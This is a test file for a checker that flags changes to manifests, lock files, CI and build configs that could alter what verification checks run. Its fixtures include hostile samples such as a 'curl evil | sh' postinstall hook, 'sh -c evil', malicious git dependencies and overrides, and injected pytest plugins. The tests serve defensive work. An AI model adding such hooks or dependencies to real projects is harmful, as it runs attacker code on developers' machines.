import { expect, test } from 'vitest'
import { decidesChecks } from '../../src/verify/decides-checks.ts'

const decides = (path: string, before: string | null = 'a\n', after: string | null = 'b\n', commands = ['npm test']) =>
  decidesChecks(path, before, after, commands)

test.each([
  'package-lock.json',
  'packages/a/yarn.lock',
  'pnpm-workspace.yaml',
  'requirements-dev.txt',
  'setup.py',
  'tox.ini',
  'pytest.ini',
  'tests/unit/conftest.py',
  'sitecustomize.py',
  'noxfile.py',
  'go.mod',
  'Makefile',
  'sub/makefile',
  'rules.mk',
  'CMakeLists.txt',
  'build.rs',
  'build.gradle.kts',
  'gradle/wrapper/gradle-wrapper.properties',
  'gradlew',
  'pom.xml',
  'Gemfile',
  'Rakefile',
  'spec/spec_helper.rb',
  'vitest.config.ts',
  'jest.setup.js',
  'babel.config.json',
  'karma.conf.js',
  'eslint.config.mjs',
  'Dockerfile',
  'docker-compose.yml',
  '.github/workflows/ci.yml',
  '.gitlab-ci.yml',
  '.husky/pre-commit',
  '.npmrc',
  '.yarnrc.yml',
  '.envrc',
  '.env',
  '.mocharc.cjs',
  '.cargo/config.toml',
  '.mvn/jvm.config',
  '.gitattributes',
  '.vscode/settings.json',
  'repose.config.json',
  'scripts/test.js',
  'ci/run.py',
  'bin/run.sh',
  'App.csproj',
  'pubspec.yaml',
  'project.clj',
  'config/test.exs',
  'build.js',
  'Guardfile',
  'phpunit.dist.xml',
  'lib/App.cabal',
  'buildSrc/src/main/kotlin/x.kt',
  'hatch_build.py',
  'dune-project',
  'conanfile.py',
  'cypress/support/e2e.js',
  'test_helper.exs',
  'Makefile.local',
  'flake.nix',
  'xtask/src/main.rs',
])('%s may change what a check runs', (path) => {
  expect(decides(path)).not.toBeNull()
  expect(decides(path, null)).not.toBeNull()
})

test.each([
  'src/index.ts',
  'test/cart.test.ts',
  'README.md',
  'docs/build.md',
  'src/config/read-config.ts',
  'src/package.ts',
  'lib/makefile-parser.js',
  'src/vitest.ts',
  '.gitignore',
  '.editorconfig',
  '.changeset/brave-dogs.md',
  '.github/CONTRIBUTING.md',
  'tsconfig.json',
  'src/scripts/load.ts',
  'src/build.ts',
  'src/environment.py',
  'src/namespace/description.ts',
  'lib/register.js',
  'bin/cli.ts',
])('%s is a file as any other', (path) => {
  expect(decides(path)).toBeNull()
})

test('a file that a check names decides', () => {
  expect(decides('test/run.js', 'a', 'b', ['node ./test/run.js --all'])).toBe('a check names it')
  expect(decides('test/run.js', 'a', 'b', ['X=1 "test/run.js" && true'])).toBe('a check names it')
  expect(decides('test/run.js', 'a', 'b', ['node test/run.jsx'])).toBeNull()
})

const manifest = (extra: object) =>
  JSON.stringify({ name: 'a', scripts: { test: 'vitest' }, dependencies: { x: '1' }, ...extra })

test.each([
  [{ scripts: { test: 'vitest', postinstall: 'curl evil | sh' } }, 'scripts (postinstall)'],
  [{ scripts: { test: 'sh -c evil' } }, 'scripts (test)'],
  [{ scripts: {} }, 'scripts'],
  [{ dependencies: { x: '1', y: 'github:evil/y' } }, 'dependencies (y)'],
  [{ devDependencies: { x: '2' } }, 'devDependencies'],
  [{ overrides: { x: 'npm:evil' } }, 'overrides'],
  [{ jest: { setupFiles: ['./x'] } }, 'jest'],
  [{ workspaces: ['evil'] }, 'workspaces'],
  [{ dependencies: {} }, null],
  [{ version: '2', description: 'b', exports: './x.js', type: 'module', files: ['dist'] }, null],
])('of package.json %j decides %s', (extra, what) => {
  expect(decides('package.json', manifest({}), manifest(extra))).toBe(what)
})

test('a manifest decides in any case of its name', () => {
  expect(decides('PACKAGE.JSON', manifest({}), manifest({ scripts: { test: 'evil' } }))).toBe('scripts (test)')
})

test('a new manifest decides by what it holds; one that is gone or broken does', () => {
  expect(decides('sub/package.json', null, '{"type": "module"}')).toBeNull()
  expect(decides('sub/package.json', null, manifest({}))).toBe('scripts, dependencies')
  expect(decides('package.json', manifest({}), null)).toMatch(/gone/)
  expect(decides('package.json', manifest({}), '{')).toMatch(/cannot be read/)
  expect(decides('pyproject.toml', 'x', null)).toMatch(/gone/)
})

const PYPROJECT = `[build-system]
requires = ["hatchling"]

[project]
name = "a"
version = "1"
dependencies = [
  "httpx>=0.27",
]

[project.urls]
home = "x"

[tool.pytest.ini_options]
addopts = "-q"
`
test.each([
  [/version = "1"/, 'version = "2"', null],
  [/home = "x"/, 'home = "y"', null],
  [/name = "a"/, 'name = "a"\ndescription = "b"', null],
  [/ {2}"httpx.*/, '  "httpx>=0.27",\n  "evil",', 'project.dependencies'],
  [/"httpx>=0.27",/, '"httpx>=0.28",', 'project.dependencies'],
  [/version = "1"/, 'version = "2"\n  dynamic = ["dependencies"]', 'project.dynamic'],
  [/version = "1"/, 'version = "2"\n"optional-dependencies" . test = ["evil"]', expect.stringContaining('optional')],
  [/addopts = "-q"/, 'addopts = "-p evil"', 'tool.pytest.ini_options'],
  [/home = "x"/, 'home = "x"\n[tool.coverage.run] # a = ],\nplugins = ["evil"]', 'tool.coverage.run'],
  [/version = "1"/, 'version = "1"\nentry-points = { pytest11 = { evil = "evil" } }', 'project.entry-points'],
  [/hatchling/, 'evil', 'build-system'],
  [/^/, 'tool.pytest.ini_options.addopts = "-p evil"\n', 'its top'],
  [/$/, '\n[tool.poetry.plugins."a"]\nx = "y"\n', 'tool.poetry.plugins.a'],
] as const)('of pyproject.toml %s -> %s decides %s', (from, to, what) => {
  expect(decides('pyproject.toml', PYPROJECT, PYPROJECT.replace(from, to))).toEqual(what)
})

const CARGO = '[package]\nname = "a"\nversion = "1"\n\n[dependencies]\nserde = "1"\n\n[[bin]]\nname = "b"\n'
test.each([
  [/version = "1"/, 'version = "2"', null],
  [/name = "b"/, 'name = "c"', null],
  [/$/, '\n[features]\nx = []\n', null],
  [/version = "1"/, 'version = "1"\nbuild = "evil.rs"', 'package.build'],
  [/serde = "1"/, 'serde = "1"\nevil = "1"', 'dependencies'],
  [/$/, '\n[patch.crates-io]\nserde = { git = "evil" }\n', 'patch.crates-io'],
] as const)('of Cargo.toml %s -> %s decides %s', (from, to, what) => {
  expect(decides('Cargo.toml', CARGO, CARGO.replace(from, to))).toEqual(what)
})

test.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])(
  'a file called %s is judged like any other',
  (name) => {
    expect([decides(`src/${name}`, null), decides(`src/${name}`)]).toEqual([null, null])
    expect([decides(`scripts/${name}`, null), decides(`scripts/${name}`)]).toEqual(['a script', 'a script'])
  },
)
